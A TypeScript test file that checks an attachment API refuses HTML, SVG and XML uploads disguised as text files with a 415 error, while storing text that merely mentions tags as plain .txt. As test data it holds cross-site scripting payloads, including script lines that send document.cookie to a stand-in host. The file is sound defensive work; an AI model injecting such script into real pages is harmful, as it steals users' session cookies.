import { download, upload } from '../attachments/attachment-support';
import { taskForce, TaskForce } from '../support/scenario';
import { createTestApp, TestApp } from '../support/test-app';
import { krAttaches, krCaseSharedWithKh, savedNameOf } from './r24-support';

/**
 * Probe r24: content that a browser would render with scripts, sent as "text". README says HTML is
 * refused (415), but a file with no magic number was taken as `text/plain` whenever it was UTF-8: an
 * HTML page, an SVG with `onload`, a `<script>` passed, named `.pdf` or `.html` as the sender liked.
 * Served with `nosniff` and as an attachment it is not rendered by the API's origin, but saved as
 * `page.html` and opened, it runs. Now text that begins as a browser sniffs markup (WHATWG MIME
 * Sniffing: `<html`, `<script`, `<!--`… after white space; `<svg`, `<?xml`) is 415 with its
 * `detectedType`, and stores nothing. Text that only mentions a tag further on stays text (saved as
 * `.txt` whatever it is named: probe-r24-saved-names).
 */
describe('Probe r24: markup sent as text', () => {
  let t: TestApp;
  let tf: TaskForce;
  let caseId: string;
  beforeAll(async () => {
    t = await createTestApp({}, {}, 'demo');
    tf = await taskForce(t);
    caseId = await krCaseSharedWithKh(tf, 'Markup');
  });
  afterAll(() => t?.close());

  const rows = async () => Number((await t.dataSource.query(`SELECT count(*) AS n FROM attachment`))[0].n);

  it('HTML, SVG and XML are 415 with the type they would be read as, whatever the name; nothing stored', async () => {
    const before = await rows();
    const bodies: Array<[string, string, string]> = [
      ['statement.pdf', '<!DOCTYPE html><html><script>alert(1)</script></html>\n', 'text/html'],
      ['notes.txt', '\n  <SCRIPT>fetch("https://x.example/"+document.cookie)</SCRIPT>\n', 'text/html'],
      ['notes.txt', '\uFEFF<html>\n<body onload="alert(1)">\n', 'text/html'],
      ['photo.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n', 'image/svg+xml'],
      ['page.html', '<!-- saved page -->\n<div>x</div>\n', 'text/html'],
      ['list.csv', '<iframe src="https://x.example/">\n', 'text/html'],
      ['data.txt', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>\n', 'application/xml'],
    ];
    const got = [];
    for (const [name, body] of bodies) {
      const res = await upload(t, tf['kr.officer'], `/cases/${caseId}/attachments`, Buffer.from(body), name);
      got.push([name, res.status, res.body.type, res.body.detectedType]);
    }
    expect(got).toEqual(
      bodies.map(([name, , type]) => [name, 415, 'urn:case-desk:problem:attachment-type-refused', type]),
    );
    expect(await rows()).toBe(before);
  });

  it('text that mentions a tag after its first words, or script code without markup, is text saved as .txt', async () => {
    const cases: Array<[string, string]> = [
      ['chat.txt', 'Chat export 3 March\n<html> seen in the phishing kit\n'],
      ['kit.js', 'document.location = "https://x.example/" + document.cookie\n'],
      ['compare.txt', '<< 1 000 000 USD moved >>\n'],
      ['brackets.txt', '<Sok> said: <b is next\n'],
    ];
    for (const [name, body] of cases) {
      const a = await krAttaches(t, tf, caseId, Buffer.from(body), name);
      expect([name, a.mediaType]).toEqual([name, 'text/plain']);
      const res = await download(t, tf['kh.officer'], a.id).expect(200);
      expect(res.headers['content-type']).toBe('text/plain');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(savedNameOf(res.headers['content-disposition'] as string)).toMatch(/\.txt$/);
    }
  });
});
